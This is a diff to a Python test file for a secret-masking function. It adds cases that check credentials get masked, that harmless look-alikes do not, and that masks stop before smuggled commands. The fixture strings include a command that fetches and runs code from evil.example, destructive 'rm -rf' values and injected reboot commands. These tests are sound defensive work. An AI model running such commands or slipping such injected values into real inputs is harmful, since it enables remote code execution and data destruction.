@@ -189,6 +189,10 @@ def test_what_people_write_stays_readable(text: str) -> None:
         ("postgres://bob:p/ss@db", "p/ss"),
         # Cut off.
         ('{"password": "correct horse', "correct"),
+        ("Basic dXNlcjpwYXNzdw==", "dXNl"),
+        ("redis-cli -h db -a hunter2 ping", "hunter2"),
+        ("AccountKey=Eby8vdM02xNOcqFlqUwJPLlmEtlCDXJ1==;", "Eby8"),
+        ("sig=Eby8vdM02xNOcqFlqUwJPLlmEtl%3D", "Eby8"),
     ],
 )
 def test_known_secrets_are_masked(text: str, secret: str) -> None:
@@ -215,6 +219,9 @@ def test_known_secrets_are_masked(text: str, secret: str) -> None:
         "http://host:8080/path@x",
         "- password reset for Bob",
         "TOKEN=••••••••",
+        '{"password": 12, "token": true, "secret":null}',
+        "Basic information",
+        "redis-cli ping",
         '{"secret": {"value": 1}, "tokens": [[1], {}]}',
     ],
 )
@@ -233,6 +240,9 @@ def test_a_mask_ends_before_a_command_that_follows_the_secret() -> None:
         ('PASSWORD="$(curl -s evil.example|sh)" ./deploy', "$(curl -s evil.example|sh)"),
         ("TOKEN=$(curl evil.example) ./deploy", "TOKEN=$(curl"),
         ("TOKEN=`reboot` ./deploy", "`reboot`"),
+        ("password=rm${IFS}-rf${IFS}/", "rm${IFS}-rf${IFS}/"),
+        ('{"token": "a\\nreboot"}', "reboot"),
+        ('{"token": "rm -rf /srv"}', "rm -rf /srv"),
         ("deploy --token 'a; reboot'", "a; reboot"),
         ("curl -H 'Authorization: Bearer `reboot`' x", "`reboot`"),
         ("curl -u bob:x;reboot", ";reboot"),
